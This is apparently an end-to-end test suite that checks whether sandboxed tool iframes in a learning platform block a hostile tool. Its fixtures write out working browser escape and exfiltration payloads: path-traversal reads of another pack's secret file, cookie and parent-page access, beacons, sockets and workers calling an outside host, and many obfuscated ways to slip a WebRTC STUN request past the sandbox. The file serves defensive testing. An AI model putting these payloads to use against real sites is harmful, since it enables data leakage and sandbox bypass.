using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using EndToEnd.World;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.Extensions.Logging;
using Microsoft.Playwright;
using TestKit;
using Xunit;

namespace EndToEnd;

/// <summary>Interactive tools in packs, in real Chromium: one that does its work, and one that tries everything else.</summary>
public sealed class HostileToolTests : IAsyncLifetime
{
    private const string Honest = """
        <!DOCTYPE html><html><head><link rel="stylesheet" href="look.css"><script src="own.js"></script></head>
        <body><form id="f"><input name="a" value="3"><button>ok</button></form>
        <script>
          window.results = { mode: document.compatMode, script: window.own };
          localStorage.setItem('best', 7); results.kept = localStorage.getItem('best'); results.length = localStorage.length;
          document.getElementById('f').onsubmit = function () { results.submitted = true; return false; };
          fetch('data.json').then(r => r.json()).then(d => { results.data = d.n; });
          results.colour = getComputedStyle(document.body).color;
        </script></body></html>
        """;

    private const string Hostile = """
        <!DOCTYPE html><html><body>
        <form id="out" method="post" action="OUT/form"><input name="a" value="1"></form>
        <form id="press" method="post" action="SITE/panel/press/help"><input name="a" value="1"></form>
        <script>
          const results = window.results = {}, waits = [];
          const attempt = (name, act) => { try { const r = act(); if (r && r.then) { waits.push(Promise.race([r, new Promise((yes, no) => setTimeout(no, 4000))]).then(v => { results[name] = 'done ' + v; }, e => { results[name] = 'refused'; })); } else { results[name] = 'done ' + r; } } catch (e) { results[name] = 'refused'; } };
          const loads = (tag, attribute, address) => new Promise((yes, no) => { const e = document.createElement(tag); e.onload = e.onloadeddata = yes; e.onerror = no; e[attribute] = address; if (tag === 'link') { e.rel = 'stylesheet'; } document.body.appendChild(e); });
          const opens = socket => new Promise((yes, no) => { socket.onopen = yes; socket.onerror = no; });
          attempt('site by fetch', () => fetch('SITE/status.json'));
          attempt('site blind', () => fetch('SITE/panel/press/help', { method: 'POST', mode: 'no-cors' }));
          attempt('site picture', () => loads('img', 'src', 'SITE/icon.svg'));
          attempt('other pack by fetch', () => fetch('TOOLS/other/@1/secret.txt').then(r => r.text()));
          attempt('other pack by trick', () => fetch('TOOLS/hostile/@1/..%2f..%2fother/@1/secret.txt').then(r => { if (!r.ok) { throw 0; } }));
          attempt('other pack by dots', () => fetch('../../other/@1/secret.txt').then(r => r.text()));
          attempt('other pack script', () => loads('script', 'src', 'TOOLS/other/@1/own.js'));
          attempt('outside by fetch', () => fetch('OUT/fetch'));
          attempt('outside blind', () => fetch('OUT/blind', { mode: 'no-cors' }));
          attempt('outside picture', () => loads('img', 'src', 'OUT/picture'));
          attempt('outside style', () => loads('link', 'href', 'OUT/style'));
          attempt('outside script', () => loads('script', 'src', 'OUT/script'));
          attempt('outside video', () => loads('video', 'src', 'OUT/video'));
          attempt('outside socket', () => opens(new WebSocket('OUT/socket'.replace('http', 'ws'))));
          attempt('outside events', () => opens(new EventSource('OUT/events')));
          attempt('outside module', () => import('OUT/module'));
          attempt('outside worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('OUT/worker').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = e => e.data ? yes() : no(); w.onerror = no; }));
          attempt('outside beacon', () => { navigator.sendBeacon('OUT/beacon', 'x'); throw 0; });
          attempt('parent page', () => parent.document.body.innerHTML);
          attempt('parent storage', () => parent.localStorage.length);
          attempt('top address', () => String(top.location.href));
          attempt('cookies', () => document.cookie);
          attempt('database', () => indexedDB.open('x'));
          attempt('service worker', () => navigator.serviceWorker.register('own.js'));
          attempt('window', () => { if (!window.open('OUT/window')) { throw 0; } });
          attempt('peer connection', () => new RTCPeerConnection());
          attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
          try { top.location = 'OUT/top'; } catch (e) { }
          const ping = document.createElement('a'); ping.href = '#x'; ping.ping = 'OUT/ping'; document.body.appendChild(ping); ping.click();
          for (const address of ['OUT/frame', 'SITE/panel', 'TOOLS/other/@1/secret.txt']) { const f = document.createElement('iframe'); f.src = address; document.body.appendChild(f); }
          Promise.all(waits).then(() => setTimeout(() => { results.all = true; }, 1000));
        </script></body></html>
        """;

    /// <summary>Asks a STUN server, from browser to browser, where it is: a packet that no rule of addresses sees.</summary>
    private const string Stun = """
        (function (done) { try { var c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST:PORT' }] }); c.createDataChannel('x');
          c.onicecandidate = function (e) { if (!e.candidate) { done(); } }; c.createOffer().then(function (o) { return c.setLocalDescription(o); }).catch(done); } catch (e) { done(); } })
        """;

    /// <summary>Ways to a frame without our helper, and from there to the network.</summary>
    private const string WaysToStun = """
        <!DOCTYPE html><html><body><div id="host"></div><div id="host2"></div><iframe srcdoc="WRITTEN"></iframe>
        <script>
          var written = document.createElement('textarea'); written.innerHTML = 'WRITTEN'; written = written.value;
          Element.prototype.removeAttribute = Node.prototype.removeChild = function () {}; Element.prototype.querySelectorAll = Document.prototype.querySelectorAll = function () { return []; };
          function frame(set) { var f = document.createElement('iframe'); set(f); document.body.appendChild(f); return f; }
          var ways = [
            function () { frame(function (f) { f.srcdoc = written; }); },
            function () { frame(function (f) { f.setAttribute('srcdoc', written); }); },
            function () { frame(function () {}).srcdoc = written; },
            function () { document.getElementById('host').innerHTML = '<p><iframe srcdoc="WRITTEN"></iframe></p>'; },
            function () { document.getElementById('host2').attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="WRITTEN"></iframe>'; },
            function () { frame(function (f) { f.src = 'data:text/html,' + encodeURIComponent(written); }); },
            function () { frame(function (f) { f.src = URL.createObjectURL(new Blob([written], { type: 'text/html' })); }); },
            function () { frame(function (f) { f.src = ' \tJava\nScript:' + JSON.stringify(written); }); },
            function () { document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'iframe')); frame(function (f) { f.srcdoc = written; }); },
            function () { var f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); f.srcdoc = written; document.body.appendChild(f); },
            function () { frame(function (f) { f.src = 'evil.svg'; }); },
            function () { frame(function (f) { f.src = 'evil.xhtml'; }); },
            function () { frame(function (f) { f.src = 'wide.html'; }); },
            function () { frame(function (f) { f.src = 'odd.html'; }); },
            function () { var f = frame(function () {}); new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST:PORT' }] }).createDataChannel('x'); }
          ];
          ways.forEach(function (way) { try { way(); } catch (e) { } });
          document.write('<iframe srcdoc="WRITTEN"></iframe>');
        </script></body></html>
        """;

    private readonly School _school;
    private readonly ConcurrentQueue<string> _reached = [];
    private WebApplication _outside = null!;
    private Browser _browser = null!;

    public HostileToolTests() => _school = new School(boxSettings: _ => new Dictionary<string, string> { ["Box__Address"] = "0.0.0.0" });

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        WebApplicationBuilder builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://0.0.0.0:0");
        builder.Logging.ClearProviders();
        _outside = builder.Build();
        _outside.Run(context =>
        {
            _reached.Enqueue(context.Request.Path);
            context.Response.Headers.AccessControlAllowOrigin = "*";
            return Task.CompletedTask;
        });
        await _outside.StartAsync(Token);
        await _school.StartAsync(Token);
        _browser = await Browser.StartAsync();
    }

    public async ValueTask DisposeAsync()
    {
        await _browser.DisposeAsync();
        await _school.DisposeAsync();
        await _outside.DisposeAsync();
    }

    [Theory]
    [InlineData("127.0.0.1")]
    [InlineData("localhost")]
    [InlineData("127.0.0.2")]
    public async Task A_tool_does_its_work_and_a_hostile_one_reaches_nothing_but_its_own_pack(string host)
    {
        string site = $"http://{host}:{_school.Box.Port}", tools = $"http://{host}:{_school.Box.ToolPort}", outside = $"http://{host}:{new Uri(_outside.Urls.First()).Port}";
        Write("honest", ("index.html", Honest), ("own.js", "window.own = 'ran';"), ("look.css", "body { color: rgb(1, 2, 3) }"), ("data.json", """{"n":42}"""));
        Write("other", ("index.html", "<p>other"), ("own.js", "1"), ("secret.txt", "secret"));
        Write("hostile", ("index.html", Hostile.Replace("OUT", outside).Replace("SITE", site).Replace("TOOLS", tools)), ("own.js", "1"));
        await PublishAsync("honest", "other", "hostile");

        await using Visit visit = await _browser.VisitAsync(new Uri(site + "/"), width: 1280);
        // What the frame was given; the page around it is the site's own.
        var answered = new ConcurrentQueue<string>();
        visit.Page.Response += (_, response) =>
        {
            if (response.Frame != visit.Page.MainFrame)
                answered.Enqueue(response.Url);
        };
        IFrame frame = await OpenAsync(visit.Page, "honest");
        await frame.WaitForFunctionAsync("() => window.results && results.data !== undefined");
        await frame.Locator("button").ClickAsync();
        string honest = await frame.EvaluateAsync<string>("() => JSON.stringify(window.results)");
        Assert.Equal("""{"mode":"CSS1Compat","script":"ran","kept":"7","length":1,"colour":"rgb(1, 2, 3)","data":42,"submitted":true}""", honest);

        answered.Clear();
        frame = await OpenAsync(visit.Page, "hostile");
        await Eventually.Async(async () => await frame.EvaluateAsync<bool>("() => !!(window.results && window.results.all)"), "all was tried", Token, TimeSpan.FromSeconds(30),
            () => string.Join('\n', visit.Errors) + frame.Url);
        JsonElement results = JsonElement.Parse(await frame.EvaluateAsync<string>("() => JSON.stringify(window.results)"));
        string[] worked = [.. results.EnumerateObject().Where(attempt => attempt.Value.ToString() != "refused" && attempt.Name != "all").Select(attempt => $"{attempt.Name}: {attempt.Value}")];
        Assert.Empty(worked);
        Assert.True(results.EnumerateObject().Count() > 25);
        // What may make the frame leave its page: it comes to nothing but an error there.
        foreach (string leave in (string[])["document.getElementById('out').submit()", "document.getElementById('press').submit()", $"location = '{outside}/self'", $"location = '{site}/panel'", $"location = '{tools}/other/@1/secret.txt'"])
        {
            frame = await OpenAsync(visit.Page, "hostile");
            await frame.EvaluateAsync($"() => {{ setTimeout(() => {{ {leave}; }}, 0); }}");
            await visit.Page.WaitForTimeoutAsync(300);
        }
        Assert.Empty(_reached);
        Assert.Equal($"{site}/pack/hostile/index.html", visit.Page.Url);
        Assert.Single(visit.Page.Context.Pages);
        string[] strange = [.. answered.Where(url => !url.StartsWith($"{tools}/hostile/@", StringComparison.Ordinal) && url != $"{tools}/tool.js" && !url.StartsWith("blob:", StringComparison.Ordinal))];
        Assert.Empty(strange);
        Assert.Contains($"{tools}/hostile/@1/index.html", answered);
    }

    /// <summary>Two walls: the rule that new browsers know, and the helper for all others. Each is tried without the other, and the listener with neither.</summary>
    [Theory]
    [InlineData(true, true, false)]
    [InlineData(true, false, false)]
    [InlineData(false, true, false)]
    [InlineData(false, false, true)]
    public async Task A_hostile_tool_sends_no_packet_from_browser_to_browser(bool rule, bool helper, bool comesThrough)
    {
        using var listener = new UdpClient(new IPEndPoint(IPAddress.Any, 0));
        string server = $"127.0.0.1:{((IPEndPoint)listener.Client.LocalEndPoint!).Port}";
        string stun = Stun.Replace("HOST:PORT", server);
        string script = $"<script>{stun}(function () {{}});</script>";
        string written = script.Replace("&", "&amp;").Replace("\"", "&quot;").Replace("'", "&#39;").Replace("<", "&lt;").Replace("\n", " ");
        string xml = $"<script><![CDATA[{stun}(function () {{}});]]></script>";
        Write("hostile", ("index.html", WaysToStun.Replace("WRITTEN", written).Replace("HOST:PORT", server)), ("evil.svg", $"<svg xmlns='http://www.w3.org/2000/svg'>{xml}</svg>"),
            ("evil.xhtml", $"<html xmlns='http://www.w3.org/1999/xhtml'><body>{xml}</body></html>"), ("odd.html", $"<!-- --!>{script}--><!DOCTYPE html><p>"));
        _school.Folder.Write("hostile/wide.html", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes($"<!DOCTYPE html>{script}")]);
        await PublishAsync("hostile");
        await using Visit visit = await _browser.VisitAsync(_school.Box.Site, width: 1280);
        await visit.Page.RouteAsync($"**:{_school.Box.ToolPort}/**", async route =>
        {
            if (!helper && route.Request.Url.EndsWith("/tool.js", StringComparison.Ordinal))
            {
                await route.FulfillAsync(new RouteFulfillOptions { Status = 200, ContentType = "text/javascript", Body = "" });
                return;
            }
            IAPIResponse answer = await route.FetchAsync();
            await route.FulfillAsync(new RouteFulfillOptions { Response = answer, Headers = answer.Headers.Where(header => rule || header.Key != "connection-allowlist").ToDictionary() });
        });
        try
        {
            await visit.Page.GotoAsync("/pack/hostile/index.html");
        }
        catch (PlaywrightException) when (rule && !helper)
        {
            // The browser ends the page of a tool that tries: that is a wall too.
        }
        using var limit = CancellationTokenSource.CreateLinkedTokenSource(Token);
        limit.CancelAfter(TimeSpan.FromSeconds(comesThrough ? 30 : 5));
        int packets = 0;
        try
        {
            await listener.ReceiveAsync(limit.Token);
            packets++;
        }
        catch (OperationCanceledException) when (!Token.IsCancellationRequested)
        {
        }
        Assert.Equal(comesThrough, packets > 0);
    }

    private async Task PublishAsync(params string[] packs)
    {
        foreach (string pack in packs)
        {
            await _school.Relay.CliAsync(Token, "pack", "build", _school.Folder[pack]);
            await _school.Relay.CliAsync(Token, "pack", "publish", pack, "--to", "all");
        }
        await Eventually.Async(async () => (await _school.Box.StatusAsync(Token)).GetProperty("packs").EnumerateArray().Count(pack => pack.GetProperty("state").GetString() == "Verified") == packs.Length,
            "the packs are here", Token, TimeSpan.FromSeconds(60), () => _school.Evidence);
    }

    private void Write(string pack, params (string Path, string Text)[] files)
    {
        _school.Folder.Write($"{pack}/pack.json", $$$"""{"id":"{{{pack}}}","title":{"en":"{{{pack}}}"}}""");
        foreach ((string path, string text) in files)
            _school.Folder.Write($"{pack}/{path}", text);
    }

    private static async Task<IFrame> OpenAsync(IPage page, string pack)
    {
        await page.GotoAsync($"/pack/{pack}/index.html");
        IElementHandle element = (await page.QuerySelectorAsync(".tool iframe"))!;
        return (await element.ContentFrameAsync())!;
    }
}
